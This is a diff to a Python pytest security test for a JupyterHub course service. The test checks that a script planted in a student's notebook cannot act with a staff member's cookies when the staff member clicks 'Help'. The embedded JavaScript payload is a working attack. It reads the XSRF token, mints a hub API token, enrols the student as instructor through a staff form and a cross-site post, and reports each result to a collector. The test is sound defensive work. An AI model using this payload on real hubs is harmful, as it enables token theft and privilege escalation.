@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import threading
 from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -51,10 +52,13 @@ PAYLOAD = """
     const page = await (await fetch("/hub/token")).text();
     const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
     const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
-    const who = await (await fetch("/hub/api/user", {headers})).json();
+    const asked = await fetch("/hub/api/user", {headers});
+    if (!asked.ok) throw new Error("/hub/api/user: " + asked.status);
+    const who = await asked.json();
     report("hub-user", who.name);
     const made = await fetch("/hub/api/users/" + who.name + "/tokens",
       {method: "POST", headers, body: JSON.stringify({note: "help", expires_in: 600})});
+    if (!made.ok) throw new Error("tokens: " + made.status);
     report("hub-token", (await made.json()).token);
   } catch (e) { report("hub-refused", e); }
   try {  // a staff form of the service as the visitor: enrol the student as instructor
@@ -73,6 +77,23 @@ PAYLOAD = """
     f.onload = () => report("service-form", f.contentDocument.body.innerText.slice(0, 200));
     form.submit();
   } catch (e) { report("service-refused", e); }
+  try {  // the same form posted across from this origin, into a frame, with the cookies
+    const target = document.createElement("iframe");
+    target.name = "across";
+    target.style.display = "none";
+    document.body.appendChild(target);
+    const form = document.createElement("form");
+    form.method = "post";
+    form.target = "across";
+    form.action = HUB + SERVICE + "/course/" + COURSE + "/staff/enrol";
+    for (const [name, value] of Object.entries({usernames: STUDENT, role: "instructor"})) {
+      const input = document.createElement("input");
+      input.name = name; input.value = value; form.appendChild(input);
+    }
+    document.body.appendChild(form);
+    form.submit();
+    report("cross-site-form", "sent");
+  } catch (e) { report("cross-site-form-refused", e); }
 })();
 """
 
@@ -168,29 +189,44 @@ def hub(start_hub: Callable[..., hubproc.RunningHub], repo: Path) -> hubproc.Run
     return _site(start_hub, repo, "staff-origin")
 
 
+def _via_proxy(hub: hubproc.RunningHub, url: str) -> tuple[str, dict[str, str]]:
+    """`url` sent to the proxy's own address with its host in a Host header (Python does
+    not resolve *.localhost as Chromium does)."""
+    parts = httpx.URL(url)
+    direct = parts.copy_with(host="127.0.0.1", port=httpx.URL(hub.url).port)
+    return str(direct), {"Host": parts.netloc.decode()}
+
+
 def plant(hub: hubproc.RunningHub, collector: Collector) -> str:
     """As nina: open the course notebook (her server starts, her copy is made), then
     save the hostile version of it through her own server. Returns her lab's URL."""
     nina = login(hub.url, "nina", USERS["nina"])
-    link = f"{SERVICE}/open/{COURSE}/{NOTEBOOK}"
-    opened = nina.get(link, follow_redirects=True)
-    if "/lab/tree/" not in str(opened.url):
+    link = f"{hub.url}{SERVICE}/open/{COURSE}/{NOTEBOOK}"
+
+    def open_link() -> str:  # follows redirects while they stay on the hub's host
+        response = nina.get(link)
+        while response.is_redirect:
+            target = str(response.url.join(response.headers["location"]))
+            if httpx.URL(target).host != httpx.URL(hub.url).host:
+                return target
+            response = nina.get(target)
+        return str(response.url)
+
+    lab = open_link()
+    if "/lab/tree/" not in lab:
         events = start_server(nina, "nina", server=COURSE)
         assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"
-        opened = nina.get(link, follow_redirects=True)
-    assert "/lab/tree/" in str(opened.url), opened.text[-300:]
-    lab = str(opened.url)
+        lab = open_link()
+    assert "/lab/tree/" in lab, lab
     script = (
         f"const COLLECTOR = {json.dumps(collector.url)}; const SERVICE = {json.dumps(SERVICE)};"
-        f" const COURSE = {json.dumps(COURSE)}; const STUDENT = 'nina';" + PAYLOAD
+        f" const COURSE = {json.dumps(COURSE)}; const STUDENT = 'nina';"
+        f" const HUB = {json.dumps(hub.url)};" + PAYLOAD
     )
-    server = lab.split("/lab/tree/")[0]
+    contents, headers = _via_proxy(hub, f"{lab.split('/lab/tree/')[0]}/api/contents/{NOTEBOOK}")
     saved = httpx.put(
-        f"{server}/api/contents/{NOTEBOOK}",
-        headers={
-            "Authorization": f"token {hub.user_token('nina')}",
-            "Host": httpx.URL(lab).netloc.decode(),
-        },
+        contents,
+        headers={**headers, "Authorization": f"token {hub.user_token('nina')}"},
         json={"type": "notebook", "format": "json", "content": _notebook(script)},
         timeout=30,
     )
@@ -205,31 +241,41 @@ def _sign_in(page, url: str, name: str) -> None:  # noqa: ANN001
     page.click("#login_submit")
 
 
-def help_the_student(hub: hubproc.RunningHub, collector: Collector, shot: str) -> str:
-    """As ivan, in Chromium: the live view of nina's notebook, then "Help". Returns the
-    text of the page Help opened once anything the student planted has had time to run."""
+def help_the_student(hub: hubproc.RunningHub, shot: str) -> tuple[str, str]:
+    """As ivan, in Chromium: the live dashboard of the notebook, then Help on nina's
+    card. Returns the URL and text of the page Help opened, once anything the student
+    planted has had time to run."""
     with chromium() as browser:
         context = browser.new_context(viewport={"width": 1300, "height": 900})
         page = context.new_page()
-        _sign_in(page, f"{hub.url}{SERVICE}/course/{COURSE}/live/view/nina/{NOTEBOOK}", "ivan")
-        page.wait_for_selector("iframe.notebook-view", timeout=60_000)
-        with context.expect_page(timeout=60_000) as opened:
-            page.get_by_role("button", name="help").first.click()
+        _sign_in(page, f"{hub.url}{SERVICE}/course/{COURSE}/live/nb/{NOTEBOOK}", "ivan")
+        card = page.locator("article.live-card[data-user='nina']")
+        try:
+            card.wait_for(timeout=60_000)
+            with context.expect_page(timeout=60_000) as opened:
+                card.locator("footer").get_by_text(re.compile("help", re.I)).first.click()
+        finally:
+            page.screenshot(path=str(SHOTS / f"{shot}-dashboard.png"), full_page=True)
         helped = opened.value
         try:
             helped.wait_for_load_state("load", timeout=120_000)
-            # The student's JupyterLab, if Help opens it, shows the output in time.
             if "/oauth2/authorize" in helped.url:
                 # The hub asks before a shared server learns who visits; the helper agrees.
                 helped.get_by_role("button", name="Authorize").click()
                 helped.wait_for_load_state("load", timeout=120_000)
             helped.wait_for_timeout(2000)
             if "/lab/" in helped.url:
+                # The student's JupyterLab: its output shows, and whatever runs, runs.
                 helped.wait_for_selector(".jp-OutputArea-output", timeout=120_000)
-                helped.wait_for_timeout(8000)  # time for the planted script to finish
+                helped.wait_for_timeout(8000)
+            else:
+                # The read-only view: the student's work, rendered in its sandboxed frame.
+                frame = helped.frame_locator("iframe.notebook-view")
+                frame.locator("text=my work").first.wait_for(timeout=60_000)
+                helped.wait_for_timeout(3000)
         finally:
             helped.screenshot(path=str(SHOTS / f"{shot}.png"), full_page=True)
-        return helped.content()
+        return helped.url, helped.content()
 
 
 def members(hub: hubproc.RunningHub) -> str:
@@ -238,18 +284,49 @@ def members(hub: hubproc.RunningHub) -> str:
     return done.stdout
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Help opens the student's live JupyterLab on the hub's origin: the student's "
-    "script acts with the staff member's cookies",
-)
-def test_help_runs_no_student_script_with_the_staff_members_cookies(
-    hub: hubproc.RunningHub, collector: Collector
-) -> None:
-    plant(hub, collector)
-    help_the_student(hub, collector, "staff-origin-help")
+def assert_nothing_gained(hub: hubproc.RunningHub, collector: Collector) -> None:
+    """Nothing the student's script tried worked with the helper's sign-in."""
     assert collector.got("hub-user") == [], collector.reports
     assert collector.got("hub-token") == [], collector.reports
     roles = members(hub)
     assert not any("nina" in line and "instructor" in line for line in roles.splitlines()), roles
-    assert collector.got("ran") == [], collector.reports
+    assert not any(origin == hub.url for origin in collector.got("ran")), collector.reports
+
+
+def test_help_runs_no_student_script_with_the_staff_members_cookies(
+    hub: hubproc.RunningHub, collector: Collector
+) -> None:
+    plant(hub, collector)
+    url, _ = help_the_student(hub, "staff-origin-help")
+    assert_nothing_gained(hub, collector)
+    # Without subdomains, Help is the read-only view: nothing of the student's runs.
+    assert "/live/view/nina/" in url and collector.got("ran") == [], (url, collector.reports)
+
+
+@pytest.fixture(scope="module")
+def subdomain_hub(start_hub: Callable[..., hubproc.RunningHub], repo: Path) -> hubproc.RunningHub:
+    # Chromium resolves *.localhost to loopback: nina's servers are at nina.localhost.
+    return _site(
+        start_hub,
+        repo,
+        "staff-subdomains",
+        public_host="localhost",
+        site_yaml="user_subdomains: true\n",
+    )
+
+
+def test_with_subdomains_help_opens_the_lab_on_the_students_own_origin(
+    subdomain_hub: hubproc.RunningHub, collector: Collector
+) -> None:
+    hub = subdomain_hub
+    lab = plant(hub, collector)
+    assert httpx.URL(lab).host == "nina.localhost", lab
+    url, _ = help_the_student(hub, "staff-origin-help-subdomain")
+    # Help opened nina's live JupyterLab, and her script ran, on her own origin...
+    assert httpx.URL(url).host == "nina.localhost" and "/lab/tree/" in url, url
+    port = httpx.URL(hub.url).port
+    assert collector.got("ran") == [f"http://nina.localhost:{port}"], collector.reports
+    # ...where it got nothing of the helper's: no hub API, no token, no staff form, and
+    # its form posted across to the service (with the helper's same-site cookie) refused.
+    assert_nothing_gained(hub, collector)
+    assert collector.got("cross-site-form") != [], collector.reports
